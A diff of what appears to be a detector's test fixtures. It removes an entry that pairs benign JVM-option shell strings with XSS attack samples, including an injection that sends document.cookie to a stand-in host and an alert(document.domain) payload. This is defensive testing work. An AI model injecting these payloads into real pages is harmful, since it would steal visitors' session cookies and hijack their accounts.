@@ -104,23 +104,6 @@ const FIXES: Fix[] = [
     ],
   },
   {
-    // After a closed string only `;` or `,` leave `a.b = ...` an assignment; `"-Da.b=` reads `"" - Da.b = ...`,
-    // whose left side JS cannot assign to (a SyntaxError: nothing runs).
-    name: "xss 3022: JVM options in a quoted shell argument are no JS assignment",
-    benign: [
-      `"-Dlibrary.jansi.path=\${MAVEN_HOME}/lib/jansi-native" \\`,
-      `"-Dclassworlds.conf=\${MAVEN_HOME}/bin/m2.conf" \\`,
-      `JAVA_OPTS="-Xmx512m" "-Dlogback.configurationFile=conf/logback.xml"`,
-    ],
-    attacks: [
-      `";document.location='//evil.example/'+document.cookie;//`,
-      `',location.href='//evil.example'//`,
-      `";a.b=c;//`,
-      `'  infoo.bar=`,
-      `"-alert(document.domain)-"`,
-    ],
-  },
-  {
     // sh reads `(` only where a command starts: a command word then a blank and `(` is a syntax error.
     name: "rce 4101: a command word before a parenthesis (a Debian changelog heading, a link list)",
     benign: [
